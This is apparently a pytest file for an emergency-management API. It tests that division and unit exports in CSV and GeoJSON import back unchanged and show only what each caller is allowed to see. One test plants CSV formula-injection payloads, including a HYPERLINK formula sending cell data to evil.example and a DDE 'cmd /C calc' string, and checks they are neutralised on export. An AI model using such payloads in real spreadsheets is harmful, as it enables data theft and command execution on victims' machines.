"""Division and unit exports use the import's columns, so an exported file imports back."""

from __future__ import annotations

import csv
import io
import json

import httpx

from tests.factories import bearer, make_county_with_two_towns
from yingji.core.db import Database


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


async def test_divisions_export_as_csv_parents_first_and_imports_back(
    client: httpx.AsyncClient, db: Database
) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    response = await client.get("/api/v1/divisions:export", headers=admin)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "divisions.csv" in response.headers["content-disposition"]
    exported = rows(response.content.decode("utf-8"))
    assert [r["adcode"] for r in exported] == ["330000", "331126", "331126101000", "331126102000"]
    town = exported[2]
    assert town["parent_adcode"] == "331126" and town["level"] == "town"
    assert json.loads(town["boundary"])["type"] == "Polygon"
    back = await client.post(
        "/api/v1/divisions:import",
        headers=admin,
        files={"file": ("divisions.csv", response.content, "text/csv")},
    )
    assert back.status_code == 200, back.text
    assert back.json()["updated"] == 4 and back.json()["created"] == 0


async def test_divisions_export_as_geojson(client: httpx.AsyncClient, db: Database) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    response = await client.get("/api/v1/divisions:export?format=geojson", headers=admin)
    document = response.json()
    assert document["type"] == "FeatureCollection"
    county = next(f for f in document["features"] if f["id"] == "331126")
    assert county["properties"]["parent_adcode"] == "330000"
    assert county["geometry"]["type"] == "Polygon"


async def test_units_export_only_what_the_caller_sees(
    client: httpx.AsyncClient, db: Database
) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    everything = rows((await client.get("/api/v1/units:export", headers=admin)).text)
    assert [r["code"] for r in everything] == ["TA", "TB"]
    assert everything[0]["division_adcode"] == "331126101000"
    assert everything[0]["lon"] == "119.05"
    town_a = await bearer(client, "town_a")
    mine = rows((await client.get("/api/v1/units:export", headers=town_a)).text)
    assert [r["code"] for r in mine] == ["TA"]


async def test_units_export_as_geojson_points(client: httpx.AsyncClient, db: Database) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    response = await client.get("/api/v1/units:export?format=geojson", headers=admin)
    feature = response.json()["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [119.05, 27.55]}
    assert feature["properties"]["code"] == "TA"


async def test_csv_exports_neutralise_formulas_and_import_them_back_unchanged(
    client: httpx.AsyncClient, db: Database
) -> None:
    await make_county_with_two_towns(db)
    admin = await bearer(client, "admin")
    evil = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
        "address": "+cmd|' /C calc'!A0",
        "phone": "-2+3",
    }
    units = (await client.get("/api/v1/units", headers=admin)).json()["items"]
    ta = next(u for u in units if u["code"] == "TA")
    assert (
        await client.patch(f"/api/v1/units/{ta['id']}", headers=admin, json=evil)
    ).status_code == 200
    renamed = await client.patch(
        "/api/v1/divisions/331126101000", headers=admin, json={"name": "@SUM(1+1)甲镇"}
    )
    assert renamed.status_code == 200

    units_csv = await client.get("/api/v1/units:export", headers=admin)
    row = next(r for r in rows(units_csv.text) if r["code"] == "TA")
    assert (row["name"], row["address"], row["phone"]) == tuple(f"'{v}" for v in evil.values())
    divisions_csv = await client.get("/api/v1/divisions:export", headers=admin)
    town = next(r for r in rows(divisions_csv.text) if r["adcode"] == "331126101000")
    assert town["name"] == "'@SUM(1+1)甲镇"

    for kind, exported in (("units", units_csv), ("divisions", divisions_csv)):
        back = await client.post(
            f"/api/v1/{kind}:import",
            headers=admin,
            files={"file": (f"{kind}.csv", exported.content, "text/csv")},
        )
        assert back.status_code == 200, back.text
    unit = (await client.get(f"/api/v1/units/{ta['id']}", headers=admin)).json()
    assert {k: unit[k] for k in evil} == evil
    division = (await client.get("/api/v1/divisions/331126101000", headers=admin)).json()
    assert division["name"] == "@SUM(1+1)甲镇"
